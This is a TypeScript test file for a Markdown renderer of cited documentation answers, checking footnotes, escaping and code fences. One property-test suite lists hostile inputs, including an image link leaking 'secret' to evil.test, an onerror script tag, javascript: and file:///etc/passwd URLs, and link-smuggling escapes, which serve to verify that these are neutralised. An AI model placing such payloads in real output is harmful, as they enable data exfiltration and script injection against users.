import * as fc from 'fast-check';
import { Lexer, type Token } from 'marked';
import { describe, expect, test } from 'vitest';
import { answerBlocks, escapeMarkdown, type Statement } from '@ibid/client';
import { excerptReplies } from '../testing/excerpt-replies.ts';
import { sampleReplies } from '../testing/replies.ts';
import { WORDED } from '../testing/worded.ts';
import { answerMarkdown } from './answer-markdown.ts';
import { arbitraryReply } from './testing/arbitrary-reply.ts';

const samples = sampleReplies('https://docs.example.org');
const hrefOf = ({ url, anchor }: { readonly url: string; readonly anchor: string }): string => `${url}#${anchor}`;
const links = { hrefOf, here: 'https://docs.example.org/docs/start' };

const page = 'https://docs.example.org/docs/nodes-and-topics';
const inspect = `[Nodes, topics and messages › How to inspect a running system](<${page}#inspect>)`;
const topic = `[Nodes, topics and messages › What is a topic?](<${page}#what-is-a-topic>)`;

/** Every token at any depth. This parser treats footnote marks as plain text. */
function tokensOf(markdown: string): readonly Token[] {
  const below = (token: Token): readonly Token[] => {
    const inner: Token[] = [];
    if ('tokens' in token && token.tokens !== undefined) inner.push(...token.tokens);
    if (token.type === 'list') inner.push(...(token.items as Token[]));
    if (token.type === 'table') {
      for (const cell of [...token.header, ...token.rows.flat()]) inner.push(...(cell.tokens as Token[]));
    }
    return [token, ...inner.flatMap(below)];
  };
  return Lexer.lex(markdown, { gfm: true }).flatMap(below);
}

function targetsIn(markdown: string): readonly string[] {
  return tokensOf(markdown).flatMap((token) =>
    token.type === 'link' || token.type === 'def' ? [String(token.href)] : [],
  );
}

test('an answer is taken along with its footnotes as links, and what they quote', () => {
  const { statements, citations } = samples.answered;
  const pages = { statements: statements.slice(3), excerpts: [], citations };
  expect(answerMarkdown(pages, links).split('\n')).toEqual([
    '1. Start the node with ros2 run. [^4]',
    '',
    '```bash',
    '# list what is published',
    'ros2 topic list --show-types',
    'ros2 topic echo /scan',
    '```',
    '[^5]',
    '',
    '| Command | What it shows [^6] |',
    '| --- | --- |',
    '| ros2 topic hz | rate of messages [^7] |',
    '',
    '- Best effort suits sensors. [^8]',
    '- Reliable suits commands. [^9]',
    '',
    '[^4]: [Installation › From packages](<https://docs.example.org/docs/install#from-packages>) “Start the node with ros2 run.”',
    `[^5]: ${inspect} “\\# list what is published ros2 topic list --show-types ros2 topic echo /scan”`,
    `[^6]: ${inspect} “Command | What it shows”`,
    `[^7]: ${inspect} “ros2 topic hz | rate of messages”`,
    `[^8]: ${topic} “Best effort suits sensors.”`,
    `[^9]: ${topic} “Reliable suits commands.”`,
    '',
  ]);
});

test('an excerpt is taken along under a link to its section, with its lists, code, tables and marks', () => {
  const { excerpts } = excerptReplies('https://docs.example.org');
  expect(answerMarkdown(excerpts, links).split('\n')).toEqual([
    '[Install › From npm](<https://docs.example.org/docs/install#from-npm>)',
    '',
    'Run `npm install parrot` in the folder of **your site**. It needs Node 22 or newer, and *nothing else*.',
    '',
    'Then start it:',
    '',
    '1. Make a folder for the index.',
    '   - It may be empty.',
    '   - It may hold an index that an earlier version has made. That one is read.',
    '2. Start the server.',
    '',
    '   ```bash',
    '   parrot serve --port 3210',
    '   # then open the page',
    '   ```',
    '',
    '   It says where it listens.',
    '3. Open the page.',
    '',
    '[Serve › … › Network › Ports](<https://docs.example.org/docs/serve#ports>)',
    '',
    '**Settings of the network**',
    '',
    '| Setting | Default | What it is for |',
    '| --- | --- | --- |',
    '| `port` | 3210 | Where the server listens. |',
    '| `host` | 127.0.0.1 | Which callers reach it. |',
    '',
    'The load of a port is $`\\rho = \\frac{\\lambda}{\\mu}`$, and it must stay below one:',
    '',
    '```math',
    String.raw`\rho = \frac{\lambda}{\mu} < 1`,
    '```',
    '',
  ]);
});

test('nothing is made of no statements', () => {
  expect(answerMarkdown(samples.refused, links)).toBe('');
});

describe('the only links are footnotes', () => {
  const hostile = [
    '![x](https://evil.test/?q=secret)',
    '[click](https://evil.test)',
    '[ref]: https://evil.test',
    '[^1]: https://evil.test',
    '<https://evil.test>',
    '<img src=https://evil.test onerror=alert(1)>',
    'https://evil.test/a_b*c*',
    'www.evil.test',
    '参见https://evil.test',
    '1https://evil.test',
    'mail me@evil.test now',
    'javascript:alert(1)',
    'a\n\n![x](https://evil.test)',
    'a\r![x](https://evil.test)',
    '\\[a](https://evil.test)',
    '\\\\[a](https://evil.test)',
    '`](https://evil.test)`![x](https://evil.test)',
    '```\n```\n![x](https://evil.test)',
    '~~~\n![x](https://evil.test)',
    '| a | b |\n| - | - |\n| [x](https://evil.test) | b |',
    'a | [x](https://evil.test) | ![y](https://evil.test)',
    '# [x](https://evil.test)',
    '1. [x](https://evil.test)',
    '> ![x](https://evil.test)',
    ' > a',
    '  1. a',
    '&#91;x](https://evil.test)',
    '&lbrack;x&rbrack;(https://evil.test)',
    '](https://evil.test) [x',
    '>](https://evil.test)<b>',
    '<!-- -->',
    '*a* **b** _c_ ~~d~~',
    '    indented',
    '---',
    '===',
  ];
  const pieces = fc.oneof(
    fc.constantFrom(...hostile),
    fc
      .array(fc.constantFrom(...hostile.flatMap((text) => text.split(/(?<=\W)|(?=\W)/u))), { maxLength: 12 })
      .map((all) => all.join('')),
    fc.string({ unit: 'binary', maxLength: 12 }),
  );

  test('code that ends where an address begins stays code', () => {
    const text = '`](https://evil.test)`![x](https://evil.test)';
    const marks = [{ kind: 'code', start: 0, end: 27, href: '' }] as const;
    const statement = { ...samples.answered.statements[0]!, text, marks };
    const markdown = answerMarkdown({ statements: [statement], excerpts: [], citations: [] }, links);
    expect(markdown).toContain('`` `](https://evil.test)`![x]( `` `https://evil.test)`');
  });

  test('a bar in code within a table stays in its cell', () => {
    const row = { ...samples.answered.statements[0]!, kind: 'row', citations: [] } as const;
    const code = { ...row, text: 'a|b | c', marks: [{ kind: 'code', start: 0, end: 3, href: '' }] } as const;
    const statements = [{ ...row, text: 'x | y' }, code];
    expect(answerMarkdown({ statements, excerpts: [], citations: [] }, links)).toContain('| `a\\|b` | c |');
  });

  test.each([
    'Read 参见https://evil.test now',
    'Read 1https://evil.test now',
    String.raw`x\|[a](//evil.test) | code, or a formula, in a row`,
  ])('a row of other scripts, digits or code makes none: %s', (text) => {
    const statement = { ...samples.answered.statements[0]!, kind: 'row', text, citations: [] } as const;
    for (const kind of ['code', 'math'] as const) {
      const marks = text.startsWith('x') ? [{ kind, start: 0, end: text.indexOf(' |'), href: '' }] : [];
      const statements = [
        { ...statement, marks: [], text: 'x | y' },
        { ...statement, marks },
      ];
      expect(targetsIn(answerMarkdown({ statements, excerpts: [], citations: [] }, links))).toEqual([]);
    }
  });

  test('an item without words makes no heading of what stands above it', () => {
    const bare = { ...samples.answered.statements[0]!, excerpt: 0, block: 0, marks: [], citations: [] };
    const statements = [
      { ...bare, kind: 'step', text: 'Above' },
      { ...bare, kind: 'item', depth: 2, text: '' },
    ] as const;
    const markdown = answerMarkdown({ statements, excerpts: [], citations: [] }, links);
    expect(tokensOf(markdown).map(({ type }) => type)).not.toContain('heading');
  });

  test('whatever pages say, in any place', () => {
    fc.assert(
      fc.property(arbitraryReply(pieces), (reply) => {
        const markdown = answerMarkdown(reply, links);
        const own = new Set(reply.citations.map((citation) => hrefOf(citation)));
        expect(targetsIn(markdown).filter((href) => !own.has(href))).toEqual([]);
        const types = new Set(tokensOf(markdown).map(({ type }) => type));
        expect(['image', 'html', 'blockquote', 'heading', 'hr'].filter((type) => types.has(type))).toEqual([]);
        const code = tokensOf(markdown).filter(({ type }) => type === 'code');
        expect(code).toHaveLength(answerBlocks(reply.statements).filter(({ type }) => type === 'code').length);
      }),
      { numRuns: 600 },
    );
  });

  test('the check sees what unescaped words would do', () => {
    expect(targetsIn('[click](https://evil.test) and https://evil.test/b')).toEqual([
      'https://evil.test',
      'https://evil.test/b',
    ]);
    expect(tokensOf('![x](https://evil.test)').some(({ type }) => type === 'image')).toBe(true);
  });

  test.each(['', 'javascript:alert(1)', 'data:text/html,x', 'http://', 'file:///etc/passwd'])(
    'an address of %j makes no link',
    (href) => {
      const markdown = answerMarkdown(samples.contradiction, { ...links, hrefOf: () => href });
      expect(targetsIn(markdown)).toEqual([]);
      expect(markdown).toContain('[^1]: Installation › From packages “The default port is 3210.”');
    },
  );

  test('addresses are absolute, as they lead from the page that is read, wherever the index says that pages are', () => {
    const markdown = answerMarkdown(samples.contradiction, {
      hrefOf: () => '/docs/install/#:~:text=The%20default,port is <3210>',
      here: 'http://127.0.0.1:3210/docs/start',
    });
    expect(targetsIn(markdown)[0]).toBe(
      'http://127.0.0.1:3210/docs/install/#:~:text=The%20default,port%20is%20%3C3210%3E',
    );
  });
});

describe('words are shown as they are', () => {
  test.each([
    ['sensor_msgs/msg/LaserScan of __init__', 'sensor_msgs/msg/LaserScan of \\_\\_init\\_\\_'],
    ['# no heading', '\\# no heading'],
    ['1. no step', '1\\. no step'],
    ['C# and 3.5 - 1', 'C# and 3.5 - 1'],
    ['AT&T &amp; &#60;', 'AT&T \\&amp; \\&#60;'],
    ['Open http://localhost:3000/a_b now', 'Open `http://localhost:3000/a_b` now'],
    ['x < y > z', 'x \\< y > z'],
  ])('%s', (text, escaped) => {
    expect(escapeMarkdown(text)).toBe(escaped);
  });

  test('read back, a sentence is word for word what it was', () => {
    const words = fc.array(
      fc.constantFrom('a', '*', '_', '[', ']', '`', '<b>', '\\', '#', '&amp;', '-', '1.', '~', '!', '|', ' ', 'ز'),
      {
        minLength: 1,
        maxLength: 14,
      },
    );
    fc.assert(
      fc.property(words, (parts) => {
        const text = parts.join('').replaceAll(/\s+/gu, ' ').trim();
        if (text === '') return;
        expect(plainOf(escapeMarkdown(text))).toBe(text);
      }),
      { numRuns: 500 },
    );
  });

  test('code is byte for byte what it was, whatever fences are in it', () => {
    const lines = fc.array(fc.constantFrom('```', '````', '~~~', '`', 'x = 1', '', '    y'), {
      minLength: 1,
      maxLength: 8,
    });
    fc.assert(
      fc.property(lines, (code) => {
        // This parser drops an empty last line.
        fc.pre(code.at(-1) !== '');
        const statement: Statement = {
          ...WORDED,
          kind: 'code',
          text: code.join('\n'),
          side: 0,
          language: 'py`th\non',
          citations: [1],
        };
        const [fence] = Lexer.lex(answerMarkdown({ statements: [statement], excerpts: [], citations: [] }, links));
        expect(fence).toMatchObject({ type: 'code', lang: 'python', text: code.join('\n') });
      }),
    );
  });
});

/** Text of one paragraph as displayed. */
function plainOf(markdown: string): string {
  const text = (tokens: readonly Token[]): string =>
    tokens
      .map((token) =>
        'tokens' in token && token.tokens ? text(token.tokens) : 'text' in token ? String(token.text) : '',
      )
      .join('');
  return text(Lexer.lexInline(markdown, { gfm: true }));
}
